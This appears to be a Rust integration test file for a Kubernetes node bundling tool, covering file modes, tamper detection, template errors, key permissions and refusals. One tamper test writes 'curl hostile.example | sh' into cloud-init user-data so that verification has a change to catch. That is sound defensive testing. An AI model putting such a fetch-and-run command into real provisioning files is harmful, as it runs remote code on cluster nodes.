//! Folder bundles, and properties of every format of a bundle.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use clusterctl::app::package::{PackageError, PackageOptions, Warning};
use clusterctl::bundle::archive;
use clusterctl::bundle::format::Format;
use clusterctl::bundle::model::Bundle;
use clusterctl::cluster::spec::Cluster;
use clusterctl::store::credentials::CredentialProblem;

use crate::cloud_init::decompressed;
use crate::support::offline::offline;
use crate::support::outside::needs;
use crate::support::packages::{package_with, warnings};
use crate::support::{Lab, good_tool, without_digests};

/// Returns the bundle that `bundle HOST` packs as an archive.
pub(crate) fn packed(lab: &Lab, host: &str) -> Bundle {
    lab.good(&["bundle", host]);
    archive::read(&fs::read(lab.path(&format!("bundles/{host}.tar.gz"))).expect("an archive")).expect("a bundle")
}

/// Returns a map from paths to modes in octal and bytes; folders have no bytes.
pub(crate) fn tree(top: &Path) -> BTreeMap<String, (String, Vec<u8>)> {
    let listed = good_tool("find", &[&top.display().to_string(), "-printf", "%P %m\n"]);
    let entry = |line: &str| {
        let (path, mode) = line.rsplit_once(' ').expect("a path and a mode");
        (path.to_owned(), (mode.to_owned(), fs::read(top.join(path)).unwrap_or_default()))
    };
    listed.lines().map(entry).collect()
}

// ── a folder ──

#[test]
fn a_folder_bundle_has_every_file_with_its_mode() {
    needs!("dash");
    let lab = Lab::issued();
    let bundle = packed(&lab, "on");
    let ran = lab.good(&["bundle", "on", "--format", "dir"]);
    assert_eq!(ran.out, "DIR/bundles/on\n");
    let tree = tree(&lab.path("bundles/on"));
    let (folders, files): (BTreeMap<_, _>, BTreeMap<_, _>) =
        tree.into_iter().partition(|(path, _)| lab.path("bundles/on").join(path).is_dir());
    let wanted: BTreeMap<String, (String, Vec<u8>)> = bundle
        .files
        .iter()
        .map(|file| (file.path.clone(), (format!("{:o}", file.mode), file.bytes.to_vec())))
        .collect();
    assert_eq!(files, wanted);
    let mode = |path: &str| folders[path].0.as_str();
    assert_eq!((mode(""), mode("etc/kubernetes"), mode("var/lib/kubelet/pki")), ("700", "755", "750"));
    // `install.sh` prints the same for the folder and the archive.
    let checked = lab.path("bundles/on/install.sh").display().to_string();
    let root = lab.path("root");
    fs::create_dir(&root).expect("a folder");
    let plan = good_tool("env", &[&format!("DESTDIR={}", root.display()), "dash", &checked, "--dry-run"]);
    assert!(plan.lines().any(|line| line.starts_with("  new ")), "{plan}");
}

#[test]
fn a_folder_bundle_ignores_the_umask_and_is_replaced_completely() {
    needs!("find");
    let lab = Lab::issued();
    let dir = |umask: &str| {
        let script = format!("umask {umask}; exec \"$0\" bundle --all --format dir");
        let ran = std::process::Command::new("sh")
            .args(["-c", &script, env!("CARGO_BIN_EXE_clusterctl")])
            .current_dir(lab.dir())
            .output()
            .expect("sh");
        assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
        tree(&lab.path("bundles"))
    };
    let first = dir("022");
    fs::write(lab.path("bundles/on/etc/kubernetes/kubelet.conf"), "changed").expect("written");
    fs::remove_file(lab.path("bundles/on/install.sh")).expect("removed");
    assert_eq!(dir("077"), first);
    assert_eq!(dir("000"), first);
    let unfinished = fs::read_dir(lab.path("bundles")).expect("a folder").count();
    assert_eq!(unfinished, 5, "one folder a host, and nothing else");
    let mode = fs::metadata(lab.path("bundles")).expect("facts").permissions().mode() & 0o777;
    assert_eq!(mode, 0o700);
}

// ── every format ──

const FORMS: [(&str, &str); 4] =
    [("tar.gz", "on.tar.gz"), ("dir", "on"), ("cloud-init", "on.cloud-init.yaml.gz"), ("ignition", "on.ign")];

#[test]
fn show_and_verify_read_every_form() {
    let lab = Lab::issued();
    for (form, name) in FORMS {
        lab.good(&["bundle", "on", "--format", form]);
        let shown = lab.good(&["show", "--output", "json", &format!("bundles/{name}")]).out;
        let json: serde_json::Value = serde_json::from_str(&shown).expect("JSON");
        let bundle = &json["files"][0]["items"][0];
        assert_eq!(
            (&bundle["kind"], &bundle["facts"]["host"]),
            (&"bundle of clusterctl".into(), &"on".into()),
            "{form}"
        );
        assert!(shown.contains("kubelet:on"), "{form}: {shown}");
    }
    let judged = lab.good(&["verify", "--offline", "--output", "json"]).out;
    let report: serde_json::Value = serde_json::from_str(&judged).expect("JSON");
    let matches = report["results"].as_array().expect("results").iter().filter(|r| r["id"] == "trust.match");
    let mut addresses: Vec<&str> = matches.map(|r| r["address"].as_str().expect("an address")).collect();
    addresses.sort_unstable();
    let names: Vec<&str> = addresses.iter().filter_map(|path| path.rsplit('/').next()).collect();
    assert_eq!(names, ["on", "on.cloud-init.yaml.gz", "on.ign", "on.tar.gz"]);
}

#[test]
fn changes_in_a_bundle_of_any_format_are_found() {
    needs!("gzip");
    let lab = Lab::issued();
    for (form, _) in FORMS {
        lab.good(&["bundle", "on", "--format", form]);
    }
    let mut shown = String::new();
    let mut judged = || {
        let found = offline(&lab, &[]);
        let changed = "fail trust.match on pack-bundle";
        assert!(found.status == 1 && found.has(changed), "{found:?}");
        shown.push_str(&found.observed(changed));
        shown.push('\n');
    };
    let change = |name: &str, from: &str, to: &str| {
        let text = lab.read(name);
        assert!(text.contains(from), "{name} {from}");
        lab.write(name, &text.replacen(from, to, 1));
    };
    change("bundles/on/etc/kubernetes/kubelet.conf", "on", "no");
    judged();
    lab.good(&["bundle", "on", "--format", "dir"]);

    let path = decompressed(&lab, &lab.path("bundles/on.cloud-init.yaml.gz"));
    change("user-data.yaml", "systemctl enable kubelet && systemctl restart kubelet", "curl hostile.example | sh");
    good_tool("gzip", &["-nf", &path]);
    fs::rename(lab.path("user-data.yaml.gz"), lab.path("bundles/on.cloud-init.yaml.gz")).expect("replaced");
    judged();
    lab.good(&["bundle", "on", "--format", "cloud-init"]);

    change("bundles/on.ign", "\"mode\": 384", "\"mode\": 420");
    judged();
    lab.good(&["bundle", "on", "--format", "ignition"]);
    change("bundles/on.ign", "\"directories\": [", "\"links\": [],\n    \"directories\": [");
    judged();
    lab.good(&["bundle", "on", "--format", "ignition"]);
    lab.good(&["verify", "--offline"]);
    insta::assert_snapshot!("changed_bundles", without_digests(&shown));

    let folder = lab.run(&["show", "pki"]);
    assert_eq!(folder.status, 0, "a folder that is no bundle is explained file by file: {folder}");
}

// ── bad input ──

#[test]
fn a_template_that_overrides_nothing_is_refused_with_the_list_of_templates() {
    let lab = Lab::issued();
    fs::create_dir_all(lab.path("templates/node/etc")).expect("a folder");
    lab.write("templates/node/etc/motd", "hello\n");
    let before = lab.snapshot();
    let ran = lab.run(&["bundle", "--all", "--templates", "templates"]);
    assert_eq!((ran.status, ran.out.as_str()), (2, ""), "{ran}");
    insta::assert_snapshot!("a_template_that_overrides_nothing", ran.err);
    assert_eq!(lab.snapshot(), before, "nothing is packed");
}

#[test]
fn a_failing_template_is_reported_with_line_and_value() {
    let lab = Lab::issued();
    fs::create_dir_all(lab.path("templates/node/etc/kubernetes")).expect("a folder");
    // Only an unused generation remains.
    let snapshot = || {
        let others = |path: &PathBuf| !path.starts_with(lab.path("bundles")) && *path != lab.path("pki/ledger.sqlite3");
        lab.snapshot().into_iter().filter(|(path, _)| others(path)).collect::<BTreeMap<_, _>>()
    };
    let before = snapshot();
    let failing = |text: &str| {
        lab.write("templates/node/etc/kubernetes/kubelet.conf", text);
        let ran = lab.run(&["bundle", "on", "--templates", "templates", "--format", "dir"]);
        assert_eq!((ran.status, ran.out.as_str()), (2, ""), "{ran}");
        assert!(!lab.path("bundles/on").exists(), "nothing is packed");
        ran.err
    };
    let unfilled = failing("a: 1\nserver: {{ cluster.endpiont }}\n");
    insta::assert_snapshot!("a_template_with_an_undefined_value", unfilled);
    let broken = failing("a: 1\nb: 2\nserver: {{ cluster.endpoint }\n");
    insta::assert_snapshot!("a_template_with_a_syntax_error", broken);
    fs::remove_dir_all(lab.path("templates")).expect("removed");
    assert!(snapshot() == before, "nothing else changed");
}

#[test]
fn an_unknown_format_and_one_that_cannot_be_encrypted_are_usage_errors() {
    needs!("age-keygen");
    let lab = Lab::issued();
    let unknown = lab.run(&["bundle", "on", "--format", "zip"]);
    assert_eq!(unknown.status, 2, "{unknown}");
    let pair = good_tool("age-keygen", &[]);
    let recipient = pair.lines().find_map(|line| line.strip_prefix("# public key: ")).expect("a recipient");
    let refused = lab.run(&["bundle", "on", "--format", "ignition", "--encrypt-to", recipient]);
    assert_eq!(refused.status, 2, "{refused}");
    insta::assert_snapshot!("ignition_cannot_be_encrypted", refused.err);
    assert!(!lab.path("bundles").exists(), "nothing is packed");
}

#[test]
fn a_file_in_place_of_a_folder_is_not_replaced() {
    let lab = Lab::issued();
    fs::create_dir(lab.path("bundles")).expect("a folder");
    lab.write("bundles/on", "other");
    let ran = lab.run(&["bundle", "on", "--format", "dir"]);
    assert_eq!(ran.status, 3, "{ran}");
    assert_eq!(lab.read("bundles/on"), "other");
}

// ── keys that others can read ──

#[test]
fn a_key_that_others_can_read_is_packed_with_a_warning() {
    needs!("find");
    let lab = Lab::issued();
    let keys = ["kubelet-client.key", "kubelet-server.key"].map(|key| lab.path("pki/nodes/on").join(key));
    let set = |path: &Path, mode| fs::set_permissions(path, fs::Permissions::from_mode(mode)).expect("set");
    set(&keys[0], 0o640);
    let exposed = CredentialProblem::Mode(keys[0].clone(), 0o640);
    assert_eq!(warnings(&lab, &["on"]), [Warning::ExposedKeys { first: exposed, count: 1 }]);
    set(&keys[1], 0o644);
    let found = warnings(&lab, &[]);
    assert!(matches!(found.as_slice(), [Warning::ExposedKeys { count: 2, .. }]), "{found:?}");
    // The remedy is applied.
    let pki = lab.path("pki").display().to_string();
    good_tool("find", &[&pki, "-name", "*.key", "-exec", "chmod", "600", "{}", "+"]);
    assert_eq!(warnings(&lab, &[]), []);

    set(&lab.path("pki/sa.key"), 0o644);
    let exposed = CredentialProblem::Mode(lab.path("pki/sa.key"), 0o644);
    assert_eq!(warnings(&lab, &[]), [Warning::ExposedServiceAccountKey(exposed)]);
    assert_eq!(warnings(&lab, &["on"]), [], "a node's bundle does not have it");

    let key = lab.path("pki/verifier/verifier.key");
    set(&key, 0o604);
    insta::assert_snapshot!("exposed_keys_of_the_verifier", lab.good(&["bundle", "--verifier"]).err);
}

// ── foreign files ──

#[test]
fn a_foreign_file_in_a_folder_bundle_is_not_removed() {
    needs!("age-keygen");
    let lab = Lab::issued();
    lab.good(&["bundle", "on", "--format", "dir"]);
    lab.good(&["bundle", "on", "--format", "dir"]);
    lab.write("bundles/on/notes.txt", "ask Ann");
    let pair = good_tool("age-keygen", &[]);
    let recipient = pair.lines().find_map(|line| line.strip_prefix("# public key: ")).expect("a recipient");
    let lost = |_: &Cluster, options: &mut PackageOptions<'_>| {
        options.format = Format::Dir;
        Ok(())
    };
    assert_eq!(package_with(&lab, &["on"], lost), Err(PackageError::WouldBeLost(lab.path("bundles/on/notes.txt"))));
    for args in [&["bundle", "on", "--format", "dir"][..], &["bundle", "--all", "--encrypt-to", recipient]] {
        let refused = lab.run(args);
        assert_eq!(refused.status, 3, "{refused}");
        assert_eq!(lab.read("bundles/on/notes.txt"), "ask Ann");
    }
    lab.good(&["bundle", "on"]);
    fs::rename(lab.path("bundles/on/notes.txt"), lab.path("notes.txt")).expect("moved");
    lab.good(&["bundle", "--all", "--encrypt-to", recipient]);
    assert!(!lab.path("bundles/on").exists());
}

#[test]
fn a_folder_without_its_manifest_is_refused() {
    let lab = Lab::issued();
    lab.good(&["bundle", "on", "--format", "dir"]);
    fs::remove_file(lab.path("bundles/on/manifest.json")).expect("removed");
    let refused = lab.run(&["bundle", "on", "--format", "dir"]);
    assert_eq!(refused.status, 3, "{refused}");
    insta::assert_snapshot!("a_folder_without_its_manifest", refused.err);
    // This follows the hint. An empty folder has no files to lose.
    fs::rename(lab.path("bundles/on"), lab.path("aside")).expect("moved");
    fs::create_dir(lab.path("bundles/on")).expect("a folder");
    lab.good(&["bundle", "on", "--format", "dir"]);
}

#[test]
fn nothing_is_packed_under_an_expired_ca() {
    let mut lab = Lab::issued();
    lab.now += time::Duration::days(3651);
    let ran = lab.run(&["bundle", "--all"]);
    assert_eq!(ran.status, 3, "{ran}");
    insta::assert_snapshot!("an_expired_ca", ran.err);
}
